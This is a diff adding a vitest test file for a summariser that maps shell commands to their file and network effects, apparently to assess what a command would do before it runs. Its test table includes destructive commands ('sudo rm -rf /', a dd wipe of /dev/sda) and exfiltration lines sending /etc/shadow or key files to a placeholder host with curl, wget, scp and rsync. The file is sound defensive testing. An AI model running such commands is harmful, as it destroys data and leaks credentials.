@@ -1,0 +1,56 @@
+import { expect, it } from 'vitest';
+import { displayWord } from '../../src/core/word.ts';
+import { summarise } from '../../src/effects/summarise.ts';
+import { scanned } from '../shell/scanned.ts';
+
+/** The effects of a command, one a line; the last column of each row. */
+function effects(command: string): readonly string[] {
+  return summarise(scanned(command)).map(
+    ({ kind, target, recursive, force }) =>
+      `${kind} ${displayWord(target)}${recursive ? ' recursive' : ''}${force ? ' force' : ''}`,
+  );
+}
+
+it.each<[command: string, effects: readonly string[]]>([
+  ['rm -rf build', ['delete /workspace/build recursive force']],
+  ['rm build -r -f', ['delete /workspace/build recursive force']],
+  ['rm -r --force -- -x', ['delete /workspace/-x recursive force']],
+  ['rm -rf "$X/"', ['delete ⟨X⟩/ recursive force']],
+  ['cd /tmp && rm x', ['delete /tmp/x']],
+  ['sudo rm -rf /', ['delete / recursive force']],
+  ['cat a ../b ~/c', ['read /workspace/a', 'read /b', 'read /home/user/c']],
+  ['cat - < in > out', ['read /workspace/in', 'write /workspace/out']],
+  ['echo hi > ~/.bashrc', ['write /home/user/.bashrc']],
+  ['cp -r a b /etc', ['read /workspace/a recursive', 'read /workspace/b recursive', 'write /etc recursive']],
+  ['cp -t /etc a', ['write /etc', 'read /workspace/a']],
+  ['mv a b', ['read /workspace/a', 'delete /workspace/a', 'write /workspace/b']],
+  ['tee -a /etc/hosts', ['write /etc/hosts']],
+  ['dd if=/dev/zero of=/dev/sda bs=1M', ['read /dev/zero', 'write /dev/sda']],
+  ['sed -i s/a/b/ f', ['read /workspace/f', 'write /workspace/f']],
+  ['sed -n 1p f', ['read /workspace/f']],
+  ['grep -rn secret src', ['read /workspace/src recursive']],
+  ['grep -e secret src', ['read /workspace/src']],
+  ['chmod -R 777 /', ['write / recursive']],
+  ['find . -name x -delete', ['delete /workspace']],
+  ['find /srv -delete', ['delete /srv recursive']],
+  ['find -L /srv -type f', ['read /srv']],
+  ['curl https://x/y', ['download https://x/y']],
+  ['curl -fsSL -o out https://x/y', ['write /workspace/out', 'download https://x/y']],
+  ['curl -F f=@/etc/shadow https://x', ['read /etc/shadow', 'send https://x']],
+  ['curl -T key https://x', ['read /workspace/key', 'send https://x']],
+  ['curl --data-binary @key https://x', ['read /workspace/key', 'send https://x']],
+  ['curl -d a=b https://x', ['send https://x']],
+  ['wget --post-file=key https://x', ['read /workspace/key', 'send https://x']],
+  ['scp key me@host:/tmp', ['read /workspace/key', 'send me@host:/tmp']],
+  ['scp host:/etc/x .', ['download host:/etc/x', 'write /workspace']],
+  ['rsync -a src/ host:dst', ['read /workspace/src', 'send host:dst']],
+  ['ssh -i key host ls', ['send host']],
+  [
+    'unknown-program ./in --out=/tmp/x plain a/b',
+    ['read /workspace/in', 'read /tmp/x', 'read /workspace/a/b'],
+  ],
+  ['unknown-program https://x/y', ['download https://x/y']],
+  ['git commit -m "read /etc/passwd"', []],
+])('%s', (command, expected) => {
+  expect(effects(command)).toEqual(expected);
+});
